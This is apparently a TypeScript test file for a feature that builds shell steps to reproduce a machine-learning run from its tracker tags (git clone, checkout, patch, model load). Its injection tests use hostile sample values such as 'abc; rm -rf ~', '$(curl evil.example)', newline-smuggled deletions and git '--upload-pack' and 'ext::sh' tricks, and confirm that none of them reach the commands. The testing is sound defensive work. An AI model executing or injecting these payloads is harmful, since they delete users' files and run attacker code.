import { makeRun, modelTags } from '../../../testing/factories';
import { reproduceSteps } from '../reproduce';
import { readSeeds, sortTags } from '../runTags';

const COMMIT = 'a'.repeat(40);

function commands(tags: Record<string, string>, runId = 'abc123') {
  return reproduceSteps(makeRun(runId, { tags })).map(({ command }) => command);
}

describe('The steps that reproduce a run', () => {
  it('are only those that its tags allow', () => {
    const kinds = reproduceSteps(makeRun('abc')).map(({ kind }) => kind);
    expect(kinds).toEqual(['values']);
  });

  it('check out its commit from its remote', () => {
    const [first] = commands({
      'mlflow.source.git.commit': COMMIT,
      'mlflow.source.git.repoURL': 'https://example.org/team/churn.git'
    });
    expect(first).toBe(
      `git clone https://example.org/team/churn.git run-abc123 && cd run-abc123\ngit checkout ${COMMIT}`
    );
  });

  it('apply what was not committed', () => {
    const [first] = commands({
      'mlflow.source.git.commit': COMMIT,
      'tracker.git.patch': 'provenance/changes.patch'
    });
    expect(first).toMatch(/git apply changes\.patch$/);
  });

  it.each([
    'abc; rm -rf ~',
    '$(curl evil.example)',
    `${COMMIT}\nrm -rf ~`,
    '--upload-pack=x'
  ])('have nothing of a commit like %p', commit => {
    expect(
      commands({ 'mlflow.source.git.commit': commit }).join('\n')
    ).not.toContain('git');
  });

  it.each(['https://x.org/$(rm)', '--upload-pack=x', 'ext::sh -c rm'])(
    'have nothing of a remote like %p',
    remote => {
      const [first] = commands({
        'mlflow.source.git.commit': COMMIT,
        'mlflow.source.git.repoURL': remote
      });
      expect(first).toBe(`git checkout ${COMMIT}`);
    }
  );

  it('quote the path of a model', () => {
    const all = commands(modelTags('models/a"b'));
    expect(all.at(-1)).toContain('load_model("runs:/abc123/models/a\\"b")');
  });

  it('are none for an id that no server gives', () => {
    expect(commands({}, 'a; rm')).toEqual([]);
  });
});

describe('The tags of a run', () => {
  it('are those of people, and those of the tracker', () => {
    const tags = { team: 'risk', 'mlflow.user': 'ada', 'tracker.cpu': 'x' };
    const { own, system } = sortTags(makeRun('a', { tags }));
    expect(own).toEqual([['team', 'risk']]);
    expect(system.map(([key]) => key)).toEqual(['mlflow.user', 'tracker.cpu']);
  });

  it.each([
    ['{"numpy": 42, "torch": "args.seed"}', ['42', 'args.seed']],
    ['no JSON', []],
    ['null', []]
  ])('give its seeds: %p', (seeds, expected) => {
    const run = makeRun('a', { tags: { 'tracker.seeds': seeds } });
    expect(readSeeds(run).map(([, seed]) => seed)).toEqual(expected);
  });
});
